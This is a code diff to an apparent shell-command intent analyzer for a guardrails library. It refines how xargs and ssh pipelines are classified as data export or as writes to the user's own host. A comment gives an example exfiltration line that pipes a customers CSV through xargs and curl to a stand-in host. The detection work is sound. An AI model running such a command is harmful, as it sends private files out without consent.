@@ -17,11 +17,14 @@ from guardrails_core.intent.shell.options import (
     _url_host,
     _words,
 )
+from guardrails_core.intent.shell.own_network import OWN_HOST, stays_inside
+from guardrails_core.intent.shell.rotation import rotated
 from guardrails_core.intent.shell.words import EXPANSION_PLACEHOLDER, _concat, _Feed, _Origin, _Word
 from guardrails_core.model import (
     Intent,
     ObjectAction,
     ObjectKind,
+    StatementEffect,
 )
 
 # ----- wrappers
@@ -135,6 +138,17 @@ def _xargs(call: _Call) -> None:
                 argv = [*inner, _Word.literal(item)]
             call.analyzer.run_inner(call, argv, feed=None, transparent=True)
         return
+    kept = None if parsed.has("-a", "--arg-file") else rotated(call.feed)
+    if kept is not None:  # `ls -t *.dump | tail -n +15 |`: the old files of one kind
+        marker = replace_strings[-1].value if replace_strings else ""
+        argv = [
+            _Word.literal(word.value.replace(marker, kept.value)) if marker in word.value else word
+            for word in inner
+        ]
+        call.analyzer.run_inner(
+            call, argv if marker else [*inner, kept], feed=None, transparent=True
+        )
+        return
     # The words xargs places come from stdin: where those bytes come from goes with them
     # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
     origin = call.feed.origin if call.feed else _Origin.NONE
@@ -247,14 +261,41 @@ def _ssh(call: _Call) -> None:
     host = _url_host(target.value) if "://" in target.value else target.display.rpartition("@")[2]
     call.obj(ObjectKind.HOST, ObjectAction.EXECUTE, host)
     feed = call.feed
-    if feed is not None and feed.literal is None:
-        call.obj(ObjectKind.HOST, ObjectAction.EXPORT_TARGET, host)
-        call.add(Intent.EXPORT, f"ssh sends {call.stdin()} to {host}")
+    remote_start = len(call.effect.embedded)
     if command:
         _script(call, _concat(command, " "), f"on {host}")
     elif feed is not None:
         _stdin_program(call, shell=True)
+    if feed is not None and feed.literal is None:
+        remote = call.effect.embedded[remote_start:]
+        if (
+            command
+            and not target.dynamic
+            and not _PASSES_ON.intersection(call.effect.findings)  # "$CMD": not visible here
+            and _keeps_stdin(remote)
+            and stays_inside(call, [(ObjectKind.HOST, host)], [_Word.literal("-")])
+        ):
+            call.obj(ObjectKind.HOST, ObjectAction.WRITE, host)
+            call.add(Intent.WRITE, f"ssh sends {call.stdin()} to {host}, {OWN_HOST}")
+        else:
+            call.obj(ObjectKind.HOST, ObjectAction.EXPORT_TARGET, host)
+            call.add(Intent.EXPORT, f"ssh sends {call.stdin()} to {host}")
     call.stdout = _Feed(_Origin.DOWNLOAD, f"ssh {host}")
+
+
+# what a remote command may do with the stdin it is sent (``cat > FILE``), and still keep it
+# there: one that reaches another host, or is not understood, may pass it on
+_PASSES_ON = frozenset(
+    (Intent.EXPORT, Intent.DYNAMIC, Intent.UNKNOWN, Intent.HOST_ACCESS, Intent.UNPARSEABLE)
+)
+
+
+def _keeps_stdin(remote: Sequence[StatementEffect]) -> bool:
+    return not any(
+        _PASSES_ON.intersection(statement.intents)
+        or any(ref.kind in (ObjectKind.HOST, ObjectKind.URL) for ref in statement.objects)
+        for statement in remote
+    )
 
 
 def _exec_in(call: _Call, target: _Word, command: Sequence[_Word]) -> None:
